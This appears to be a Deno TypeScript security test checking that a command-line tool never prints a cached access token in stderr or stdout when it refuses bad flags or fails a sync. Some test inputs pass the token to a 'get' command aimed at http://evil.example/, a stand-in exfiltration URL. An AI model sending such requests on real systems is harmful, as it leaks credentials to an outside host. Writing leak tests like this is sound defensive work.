// Attack r153 H4 and L2: the CLI with a 64-character token in its cache.
// A flag refused before the session reads the cache echoed the token whole;
// a sync failing on ids that hold it printed its reason nowhere.

import { equal, ok } from "node:assert/strict";
import { cli, cliSetup, TOKEN } from "./_cli_process.ts";
import { scratchDir } from "./_fleet.ts";
import { processTest } from "../_processes.ts";

/** Whether `text` holds a run of 12 characters of the token, in any case. */
function holdsToken(text: string): boolean {
  const lower = text.toLowerCase();
  for (let at = 0; at + 12 <= TOKEN.length; at++) {
    if (lower.includes(TOKEN.slice(at, at + 12).toLowerCase())) return true;
  }
  return false;
}

/** A token endpoint handing out TOKEN, and a list whose ids hold it, out of order. */
function serve(): Deno.HttpServer<Deno.NetAddr> {
  return Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (r) => {
    const { pathname, searchParams } = new URL(r.url);
    if (pathname === "/token") {
      const answer = { access_token: TOKEN, token_type: "Bearer" };
      return Response.json({ ...answer, expires_in: 3600 });
    }
    const first = (searchParams.get("page") ?? "1") === "1";
    // Split by a '/': the library drops a text holding such a run whole.
    const split = `${TOKEN.slice(0, 20)}/${TOKEN.slice(20)}`;
    const items = [{ thingID: `b-${split}` }, { thingID: `a-${TOKEN}` }];
    return Response.json(first ? items : []);
  });
}

processTest("the CLI never prints a token its cache holds", async (t) => {
  await using server = serve();
  const folder = await scratchDir();
  const { env, flags } = cliSetup(server, folder);
  const first = await cli(flags, ["token"], env);
  equal(first.code, 0, first.stderr);
  const refused = [
    ["list", "things", "--sort-by", `-${TOKEN} x`],
    ["list", "things", "--sort-direction", TOKEN],
    ["list", "things", "--limit", TOKEN],
    ["list", "things", "--limit", TOKEN.slice(0, 40)],
    ["get", `http://evil.example/${TOKEN}`],
    ["get", `http://evil.example/${TOKEN.slice(0, 20)}/${TOKEN.slice(20)}`],
  ];
  for (const args of refused) {
    await t.step(`${args[0]} ${args[2] ?? "<address>"}`, async () => {
      const run = await cli(flags, args, env);
      equal(run.code, 2);
      ok(!holdsToken(run.stderr + run.stdout), run.stderr);
    });
  }
  await t.step(
    "sync failing unordered on ids holding it keeps its reason",
    async () => {
      const to = `${folder}/copy.db`;
      const run = await cli(flags, ["sync", "things", "--to", to, "-v"], env);
      equal(run.code, 1);
      ok(!holdsToken(run.stderr), run.stderr);
      ok(run.stderr.includes("unordered"), run.stderr); // the SyncError's reason
    },
  );
});
